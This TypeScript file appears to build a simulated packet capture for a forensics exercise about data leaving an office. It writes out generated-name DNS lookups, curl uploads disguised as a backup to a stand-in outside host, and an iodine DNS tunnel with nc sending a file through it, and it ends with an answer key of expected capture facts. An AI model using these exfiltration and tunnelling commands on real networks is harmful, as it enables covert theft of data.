import { INTERNET, internetMachine, OFFICE, officeMachine, officeRouter } from '@/authoring/captures/places';
import { count, defineScenario, fact, noneMalformed, values } from '@/authoring/captures/scenario';
import { pick, randomBytes, seededRandom } from '@/authoring/captures/seeded-random';
import { serveCanned } from '@/authoring/captures/services/canned-web';
import { serveNames } from '@/authoring/captures/services/name-server';

/**
 * Two ways out. A program looks for its master under generated names, most of which do not exist; then 180 kB leave in
 * three HTTP posts, as something that calls itself a backup; then more leave inside the questions of a DNS tunnel
 * (iodine), for which nothing but the office's own name server has to be reachable. All contents are random bytes.
 */
const SUFFIXES = ['example', 'test', 'invalid'];
const GENERATED = 120;
const PART = 60_000;
const TUNNELLED = 9_000;
const contents = seededRandom(99);

function generatedNames(): string[] {
  const letters = 'abcdefghijklmnopqrstuvwxyz0123456789';
  return Array.from({ length: GENERATED }, () => {
    const length = 11 + Math.floor(contents() * 8);
    const label = Array.from({ length }, () => pick(contents, [...letters])).join('');
    return `${label}.${pick(contents, SUFFIXES)}`;
  });
}

const names = generatedNames();
const theOneThatExists = 'k3v9wq71mzt2.example';

export default defineScenario({
  title: 'More went out than came in',
  story: [
    'At Nordhamn Freight the evening backup is done, and most desks are empty.',
    'One computer is still busy. The sensor listens where the office meets its router.',
    'The office’s name server answers every computer in the office, and asks other name servers on its behalf.',
  ],
  starts: '2026-06-02T18:40:00Z',
  topology: {
    segments: [OFFICE, INTERNET],
    hosts: [
      officeMachine('pc-david', 'desk computer in sales', '10.7.10.24', { user: 'david' }),
      officeMachine('pc-anna', 'desk computer in accounts', '10.7.10.21', { user: 'anna' }),
      officeRouter(),
      internetMachine('drop', 'server that takes uploads', '203.0.113.88', 26),
      internetMachine('tunnel', 'name server of a domain outside', '203.0.113.53', 33),
      internetMachine('news', 'web server with news', '198.51.100.30', 6),
    ],
  },
  tap: { segment: 'office', where: 'in the office, in front of the router', padded: true },
  howMade: {
    summary: 'Real curl, dig and iodine; what is taken away is random bytes.',
    tools: ['curl', 'dig', 'iodine', 'dnsmasq', 'Node http'],
  },
  needs: ['curl', 'dig', 'iodine', 'iodined', 'dnsmasq', 'node', 'faketime', 'ifconfig'],

  async setup(stage) {
    await serveNames(stage.host('router'), {
      addresses: {
        [theOneThatExists]: ['203.0.113.88'],
        'backup.cloudvault.example': ['203.0.113.88'],
        'www.news.example': ['198.51.100.30'],
      },
      lines: ['server=/t.sync-status.example/203.0.113.53'],
      ttl: 60,
    });
    await serveCanned(
      stage.host('drop'),
      80,
      {
        'POST /v1/chunk*': {
          headers: { 'content-type': 'application/json' },
          body: '{"stored":true}\n',
          thinkingMs: 30,
        },
        'GET /v1/hello': { headers: { 'content-type': 'application/json' }, body: '{"interval":300}\n' },
      },
      'nginx',
    );
    await serveCanned(
      stage.host('news'),
      80,
      {
        'GET /*': {
          body: `<!doctype html><title>News</title>${'<p>Ferries sail again after the storm.</p>'.repeat(90)}`,
        },
      },
      'nginx',
    );
    const david = stage.host('pc-david');
    for (const part of [1, 2, 3]) {
      await david.write(
        `part${part}`,
        Buffer.concat([Buffer.from('Salted__'), randomBytes(contents, PART - 8)]),
      );
    }
    await david.write('list', Buffer.concat([Buffer.from('Salted__'), randomBytes(contents, TUNNELLED)]));
    await david.write('names', `${names.join('\n')}\n`);
    await stage
      .host('tunnel')
      .serve(['iodined', '-f', '-c', '-P', 'inert', '172.16.99.1/24', 't.sync-status.example'], { udp: 53 });
    await stage
      .host('tunnel')
      .serve(['socat', '-u', 'TCP-LISTEN:8000,fork', 'OPEN:/dev/null'], { tcp: 8000 });
  },

  async run(stage) {
    const david = stage.host('pc-david');
    const anna = stage.host('pc-anna');
    const read = `curl -sS --max-time 15 -o /dev/null -A 'Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:128.0) Gecko/20100101 Firefox/128.0'`;

    await anna.must(`${read} http://www.news.example/`);
    await stage.skip(31);

    // Which of the generated names is alive? Nearly all are not.
    await david.must(`dig +tries=1 +timeout=2 +noedns -f ${david.path('names')} A`, { timeout: 60_000 });
    await david.must(`dig +tries=1 +timeout=2 +noedns ${theOneThatExists} A`);
    const agent = `curl -sS --max-time 20 -o /dev/null -A 'VaultBackup/3.1' -H 'Expect:'`;
    await david.must(`${agent} http://${theOneThatExists}/v1/hello`);
    await stage.skip(55);

    // Three posts.
    for (const part of [1, 2, 3]) {
      await david.must(
        `${agent} -T ${david.path(`part${part}`)} -X POST 'http://backup.cloudvault.example/v1/chunk?n=${part}'`,
      );
      await stage.skip(42 + 20 * stage.random());
    }
    await anna.must(`${read} http://www.news.example/ferries`);
    await stage.skip(420);

    // The tunnel: a whole TCP connection inside questions and answers.
    const client = david.start([
      'iodine',
      '-f',
      '-r',
      '-T',
      'TXT',
      '-M',
      '180',
      '-P',
      'inert',
      '10.7.10.1',
      't.sync-status.example',
    ]);
    await client.says('Connection setup complete', 20_000);
    await david.must(`nc -q 1 -w 20 172.16.99.1 8000 < ${david.path('list')}`, { timeout: 60_000 });
    await stage.wait(800);
    await client.stop();
  },

  facts: {
    nothingMalformed: noneMalformed(),
    noSuchName: count('Answers that say that a name does not exist.', 'dns.flags.rcode == 3', GENERATED),
    posts: count('Uploads.', 'http.request.method == "POST"', 3),
    postLengths: values('Length of each upload.', 'http.request.method == "POST"', 'http.content_length', [
      String(PART),
    ]),
    uploadHost: values('Where the uploads went.', 'http.request.method == "POST"', 'http.host', [
      'backup.cloudvault.example',
    ]),
    sender: values('Who uploads.', 'http.request.method == "POST"', 'ip.src', ['10.7.10.24']),
    tunnelQuestions: count(
      'Questions below the tunnel’s domain.',
      'dns.flags.response == 0 && dns.qry.name contains "t.sync-status.example"',
    ),
    tunnelTypes: values(
      'Record types that the tunnel asks for.',
      'dns.flags.response == 0 && dns.qry.name contains "t.sync-status.example"',
      'dns.qry.type',
    ),
    tunnelAsker: values(
      'Who asks them.',
      'dns.flags.response == 0 && dns.qry.name contains "t.sync-status.example"',
      'ip.src',
      ['10.7.10.24'],
    ),
    liveName: values(
      'The generated name that exists.',
      'dns.flags.rcode == 0 && dns.a && dns.qry.name matches "^[a-z0-9]{11,18}[.](example|test|invalid)$"',
      'dns.qry.name',
      [theOneThatExists],
    ),
    tcp: fact('TCP sessions outside the tunnel.', { kind: 'sessions', transport: 'tcp', state: 'SF' }, 6),
    noRetransmission: count('Nothing was sent twice.', 'tcp.analysis.retransmission', 0),
  },
  comments: [
    { filter: 'dns.flags.rcode == 3', text: 'The first generated name that does not exist.' },
    { filter: `dns.a && dns.qry.name == "${theOneThatExists}"`, text: 'The generated name that exists.' },
    { filter: 'http.request.method == "POST"', which: 'every', text: 'An upload of 60,000 bytes.' },
    { filter: 'dns.qry.name contains "t.sync-status.example"', text: 'The tunnel begins.' },
  ],
});
